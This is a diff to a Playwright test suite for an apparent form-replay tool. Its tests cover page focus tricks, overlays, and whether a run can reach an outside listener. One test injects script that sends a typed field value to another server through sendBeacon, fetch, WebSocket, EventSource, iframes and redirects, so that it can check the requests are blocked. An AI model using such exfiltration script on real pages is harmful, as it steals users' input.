@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import re
 from collections.abc import Callable, Iterator
-from pathlib import Path
 
 import pytest
 from playwright.sync_api import Browser
@@ -375,14 +374,63 @@ def test_a_system_that_is_down_or_under_maintenance_is_a_failure_that_may_be_tri
     assert (run(tape(goes("/gone"), NAME)).ending, old.stored) == (Ending.FAILED, [])
 
 
-def test_a_page_can_not_reach_another_listener(old, run, tmp_path: Path):
+PRESSED = clicks("aria/氏名", "tr:nth-of-type(1) input", "xpath///*[@id='n']", "pierce/#n")
+
+
+@pytest.mark.parametrize(
+    "on_press",
+    [
+        "n.readOnly = true; n.onclick = () => { n.readOnly = false }",
+        "n.onfocus = () => { n.replaceWith(n.cloneNode()) }",
+        "n.onmousedown = (event) => { event.preventDefault(); k.focus() }",
+    ],
+    ids=["opens the field", "draws it anew", "goes elsewhere"],
+)
+def test_what_a_page_does_when_a_field_is_gone_into_happens_before_it_is_filled(old, run, on_press):
+    old.extra = f"<script>{on_press}</script>"
+
+    ended = run(tape(goes("/entry"), PRESSED, NAME, KANA, WARD, REGISTER))
+
+    assert (ended.ending, old.stored) == (Ending.DONE, [STORED])
+
+
+def test_what_lies_over_a_button_for_a_moment_is_waited_for_and_never_pressed(old, run):
+    old.pages = {
+        "/menu": """<title>メニュー</title><a href=/entry>入力</a>
+          <div id=over style="position:fixed;inset:0" onclick="document.title = '押された'">お待ちください</div>
+          <script>setTimeout(() => over.remove(), 400)</script>"""
+    }
+
+    ended = run(tape(goes("/menu"), clicks("aria/入力"), NAME, KANA, WARD, REGISTER))
+
+    assert (ended.ending, old.stored) == (Ending.DONE, [STORED])
+
+
+@pytest.mark.parametrize(
+    ("content", "rehearse"),
+    [
+        (move_in(), False),
+        (move_in(), True),
+        (tape(goes("/entry"), NAME, KANA, clicks("button", timeout=500)), False),
+        (tape(goes("/entry"), clicks("#n"), waits("#k")), False),
+        (tape(goes("/away"), NAME, timeout=500), False),
+    ],
+    ids=["a row", "a rehearsal", "nothing known to register", "looking up", "led away"],
+)
+def test_no_run_reaches_another_listener_whatever_its_pages_try(old, run, content, rehearse):
     with answering(OldPages()) as elsewhere:
-        old.extra = f"""<img src={elsewhere.url}/seen><script>
-          const tell = () => {{ navigator.sendBeacon('{elsewhere.url}/seen', n.value);
-            fetch('{elsewhere.url}/seen', {{method: 'POST', body: n.value, mode: 'no-cors'}}); }};
-          tell(); k.addEventListener('input', tell);</script>"""
+        away = f"{elsewhere.url}/seen"
+        old.pages = {"/away": f"<meta http-equiv=refresh content='0;url={away}'><link rel=preconnect href={away}>"}
+        old.extra = f"""<img src={away}><iframe src={away}></iframe><script>
+          const tell = () => {{
+            navigator.sendBeacon('{away}', n.value); window.open('{away}'); new EventSource('{away}');
+            new WebSocket('{away.replace("http", "ws")}');
+            fetch('{away}', {{method: 'POST', body: n.value, mode: 'no-cors'}});
+          }};
+          tell(); n.addEventListener('click', tell); k.addEventListener('input', tell);</script>"""
         old.form = f"action={elsewhere.url}/register"
 
-        run(move_in())
+        run(content, rehearse=rehearse)
 
         assert elsewhere.asked == []
+        assert elsewhere.reached == 0
